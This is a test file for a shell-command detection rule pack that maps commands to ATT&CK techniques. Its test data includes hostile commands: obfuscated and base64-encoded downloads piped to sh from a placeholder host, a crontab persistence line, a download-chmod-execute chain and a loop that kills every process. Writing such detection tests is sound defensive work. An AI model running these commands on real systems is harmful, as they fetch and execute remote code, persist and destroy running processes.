import assert from "assert";
import { loadPack } from "../../../lib/rules/pack.ts";
import { RuleSet } from "../../../lib/rules/run/rule_set.ts";

const PACK = RuleSet.compile(loadPack().rules);

function techniques(command: string): ReadonlySet<string> {
  return new Set(
    PACK.match("command", { command_text: command }).flatMap(({ rule }) =>
      rule.document.emits.map((emission) => emission.sub_technique_id ?? emission.technique_id)
    ),
  );
}

const SHOWN: readonly (readonly [command: string, technique: string])[] = [
  ["w'g'et http://192.0.2.1/a", "T1105"],
  ["c\\url${IFS}-O${IFS}http://192.0.2.1/a", "T1105"],
  ["echo d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= | base64 -d | sh", "T1105"],
  ["find / -perm -u=s 2>/dev/null", "T1083"],
  ["find / -perm -u=s 2>/dev/null", "T1548.001"],
  ["(crontab -l; echo '* * * * * curl -s http://192.0.2.1/x | sh') | crontab -", "T1053.003"],
  ["cd /tmp; wget http://192.0.2.1/m -O .m; chmod 777 .m; ./.m", "T1059.004"],
  ["/bin/busybox tftp -g -r mips 192.0.2.1", "T1105"],
  ["/tool fetch url=http://192.0.2.1/a.rsc", "T1105"],
  ["sudo -u root env A=1 nohup wget http://192.0.2.1/a &", "T1105"],
  ["for p in /proc/[0-9]*; do kill -9 ${p##*/}; done", "T1057"],
];

for (const [command, technique] of SHOWN) {
  Deno.test(`${command} shows ${technique}`, () => {
    assert.ok(techniques(command).has(technique), [...techniques(command)].join());
  });
}

const CLEAN: readonly (readonly [command: string, technique: string])[] = [
  ['echo "wget http://192.0.2.1/a"', "T1105"],
  ["grep -r wget /usr/share/doc", "T1105"],
  ["man nmap", "T1046"],
  ["echo rm -rf /", "T1485"],
  ["cat useradd.txt", "T1136.001"],
];

for (const [command, technique] of CLEAN) {
  Deno.test(`${command} does not show ${technique}`, () => {
    assert.ok(!techniques(command).has(technique));
  });
}

for (
  const command of [
    "cd /tmp",
    "exit",
    "sh",
    "enable",
    "echo hello",
    "/bin/busybox SATORI",
    ">/tmp/.x && cd /tmp",
  ]
) {
  Deno.test(`${command} is nothing to speak of`, () => {
    const found = PACK.match("command", { command_text: command }).flatMap(({ rule }) =>
      rule.document.emits
    );
    assert.ok(found.every(({ confidence }) => confidence < 0.6), [...techniques(command)].join());
  });
}

Deno.test("every rule has four examples of each sort and a reference", () => {
  for (const { document } of loadPack().rules) {
    const { rule_id: id, tests, references = [] } = document;
    assert.ok((tests?.match.length ?? 0) >= 4 && (tests?.no_match.length ?? 0) >= 4, id);
    assert.ok(references.length > 0, id);
  }
});
